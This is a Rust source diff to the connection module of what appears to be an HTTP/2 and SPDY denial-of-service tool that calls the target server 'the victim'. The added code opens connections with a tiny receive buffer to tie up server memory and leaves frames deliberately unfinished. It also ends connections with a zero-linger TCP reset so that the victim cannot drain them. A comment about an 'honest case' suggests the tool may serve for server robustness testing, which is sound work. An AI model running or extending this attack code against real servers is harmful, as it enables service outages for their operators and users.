@@ -40,6 +40,8 @@ pub(crate) struct Peer {
     /// Streams whose answers an honest case waits for.
     pub(crate) opened: Vec<u32>,
     pub(crate) sent: u64,
+    /// A frame was begun that never ends: no answer may go into it.
+    pub(crate) mid_frame: bool,
     began: Instant,
 }
 
@@ -65,6 +67,23 @@ impl Peer {
         manners: Manners,
     ) -> io::Result<Peer> {
         let socket = TcpStream::connect_timeout(&victim, Duration::from_secs(5))?;
+        Peer::over(socket, dialect, Role::Client, manners)
+    }
+
+    /// Connects with a receive buffer of a few KiB, so that the kernel takes
+    /// little in the attacker's place.
+    pub(crate) fn connect_narrow(
+        victim: SocketAddr,
+        dialect: Dialect,
+        manners: Manners,
+    ) -> io::Result<Peer> {
+        let runtime = crate::runtime::build(1)?;
+        let socket = runtime.block_on(async {
+            let socket = tokio::net::TcpSocket::new_v4()?;
+            socket.set_recv_buffer_size(4 << 10)?;
+            socket.connect(victim).await?.into_std()
+        })?;
+        socket.set_nonblocking(false)?;
         Peer::over(socket, dialect, Role::Client, manners)
     }
 
@@ -98,6 +117,7 @@ impl Peer {
             next_id: 1,
             opened: Vec::new(),
             sent: 0,
+            mid_frame: false,
             began: Instant::now(),
         })
     }
@@ -137,6 +157,10 @@ impl Peer {
 
     /// Encodes DATA within the credit that there is; the length that went.
     pub(crate) fn data_in_credit(&mut self, id: u32, payload: &[u8], fin: Fin) -> usize {
+        // A victim that stops reading gets no more than this.
+        if self.wire.out.len() >= 4 * BATCH {
+            return 0;
+        }
         let credit = usize::try_from(self.seen().credit(id)).unwrap_or(0);
         let len = payload.len().min(credit);
         let Some(part) = payload.get(..len).filter(|part| !part.is_empty()) else {
@@ -149,10 +173,11 @@ impl Peer {
         len
     }
 
-    /// Sends what is encoded, if it is much.
+    /// Sends what is encoded, if it is much; the rest of it later, when the victim
+    /// takes nothing.
     pub(crate) fn flush_batch(&mut self) {
         if self.wire.out.len() >= BATCH {
-            self.flush();
+            self.flush_within(WRITE_SLICE);
         }
     }
 
@@ -164,8 +189,10 @@ impl Peer {
     /// Sends what is encoded. False when the victim took none of it for
     /// `patience`, or closed.
     pub(crate) fn flush_within(&mut self, patience: Duration) -> bool {
-        let answers = self.seen().answers.split();
-        self.wire.out.extend_from_slice(&answers);
+        if !self.mid_frame {
+            let answers = self.seen().answers.split();
+            self.wire.out.extend_from_slice(&answers);
+        }
         let mut last = Instant::now();
         while !self.wire.out.is_empty() {
             match self.socket.write(&self.wire.out) {
@@ -215,7 +242,7 @@ impl Peer {
             if left.is_zero() || seen.closed.is_some() {
                 return false;
             }
-            if seen.answers.is_empty() {
+            if seen.answers.is_empty() || self.mid_frame {
                 let slice = left.min(Duration::from_millis(20));
                 let waited = self.shared.changed.wait_timeout(seen, slice);
                 drop(waited);
@@ -229,8 +256,13 @@ impl Peer {
     /// Waits until the victim says that it takes requests, where it says so.
     pub(crate) fn settle(&mut self) {
         if self.wire.dialect == Dialect::Http2 {
-            self.wait(Duration::from_secs(3), |seen| !seen.answers.is_empty());
+            self.wait(Duration::from_secs(3), |seen| seen.frames > 0);
             self.flush();
+        } else if self.wire.dialect.spdy().is_some() {
+            // A first frame: what follows is no preface any more.
+            self.wire.ping(1);
+            self.flush();
+            self.wait(Duration::from_secs(3), |seen| seen.pings > 0);
         }
     }
 
@@ -267,6 +299,23 @@ impl Drop for Peer {
     fn drop(&mut self) {
         self.shared.over.store(true, Relaxed);
         let _ = self.socket.shutdown(Shutdown::Both);
+    }
+}
+
+/// Ends connections by a TCP reset, as a client that is gone: FIN alone would
+/// leave the victim the time to drain.
+pub(crate) fn abort(peers: Vec<Peer>) {
+    if let Ok(runtime) = crate::runtime::build(1) {
+        runtime.block_on(async {
+            for peer in &peers {
+                // The option belongs to the socket, of which this is another name.
+                let other = peer.socket.try_clone().and_then(|socket| {
+                    socket.set_nonblocking(true)?;
+                    tokio::net::TcpStream::from_std(socket)
+                });
+                let _ = other.map(|other| other.set_zero_linger());
+            }
+        });
     }
 }
 
